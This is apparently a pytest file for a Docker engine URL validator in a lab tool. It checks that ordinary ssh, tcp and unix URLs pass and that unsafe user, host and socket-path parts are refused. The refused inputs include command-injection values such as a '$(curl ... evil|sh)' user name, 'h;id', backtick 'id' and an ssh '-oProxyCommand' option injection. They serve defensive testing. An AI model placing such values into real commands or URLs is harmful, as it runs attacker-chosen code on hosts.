"""Engine URLs: the user and host parts hold only characters that mean nothing to a shell
or to ssh's option parser; every refusal says which part, which characters, and what is
allowed."""

from __future__ import annotations

import pytest

from dnetlab.load.engineurl import HOST_RULE, PATH_RULE, USER_RULE, problems


@pytest.mark.parametrize("url", [
    "ssh://root@10.99.0.1", "ssh://10.99.0.1", "ssh://root@10.99.0.1:2222",
    "ssh://deploy.user_1@lab-host_2.example.org", "ssh://h3", "ssh://root@[::1]:2222",
    "ssh://root@[fd00::3]", "tcp://10.99.0.2:2376", "tcp://docker.example:2375/",
    "unix:///var/run/docker.sock", "unix:///run/dnetlab-testbed/h1/docker.sock",
    "unix:///run/user/1000/docker+rootless.sock",
])
def test_ordinary_urls_pass(url: str) -> None:
    assert problems(url) == []


@pytest.mark.parametrize(("url", "part", "chars"), [
    ("ssh://$(curl${IFS}-s${IFS}evil|sh)@10.99.0.1", "the user '$(curl${IFS}-s${IFS}evil|sh)'",
     "'$', '(', '{', '}', '|', ')'"),
    ("ssh://r`id`@h", "the user 'r`id`'", "'`'"),
    ("ssh://a b@h", "the user 'a b'", "' '"),
    ("ssh://a@b@h", "the user 'a@b'", "'@'"),
    ("ssh://root@h;id", "the host 'h;id'", "';'"),
    ("ssh://root@-oProxyCommand=x", "the host '-oProxyCommand=x'", "'='"),
    ("tcp://h$x:2375", "the host 'h$x'", "'$'"),
    ("ssh://root@h%0a", "the host 'h%0a'", "'%'"),
    ("ssh://root@h\nx", "the host 'h\\nx'", "'\\n'"),
    ("ssh://root@h3/", "the host 'h3/'", "'/'"),
])
def test_unsafe_user_and_host_parts_are_refused(url: str, part: str, chars: str) -> None:
    (message, hint), *_ = problems(url)
    assert message == f"{part} of the engine URL is not allowed: it has {chars}"
    assert hint == (USER_RULE if part.startswith("the user") else HOST_RULE)


@pytest.mark.parametrize("url", ["ssh://-l@h", "ssh://root@-h", "ssh://root@.h",
                                 "ssh://root@[nope]"])
def test_a_leading_dash_or_a_bad_ipv6_is_refused_with_the_rule(url: str) -> None:
    (message, hint), *_ = problems(url)
    assert message.endswith("of the engine URL is not allowed")
    assert hint in (USER_RULE, HOST_RULE)


def test_socket_paths_are_absolute_and_plain() -> None:
    assert problems("unix:///run/$(id).sock") == [
        ("the socket path '/run/$(id).sock' of the engine URL is not allowed: it has '$', "
         "'(', ')'", PATH_RULE)]
    assert problems("unix:///run/../etc/x.sock")[0][1] == PATH_RULE
    assert problems("unix://run/docker.sock") == [
        ("'unix://run/docker.sock' has no absolute socket path",
         "write unix:///var/run/docker.sock")]


def test_the_other_url_mistakes_keep_their_messages() -> None:
    assert problems("ssh://root:pw@h") == [
        ("passwords do not belong in scenario files", "use an SSH key or agent")]
    assert problems("tcp://h") == [("'tcp://h' has no port", "Docker listens on 2375 or 2376")]
    assert problems("tcp://u@h:2375") == [
        ("'tcp://u@h:2375': a tcp:// engine URL takes no user", "write tcp://HOST:PORT")]
    assert problems("ssh://root@") == [("'ssh://root@' names no host", "write ssh://user@HOST")]
    assert problems("ssh://h:0")[0][0] == "'ssh://h:0' has an invalid port"
    assert problems("ssh://h:x")[0][0] == "'ssh://h:x' has an invalid port"
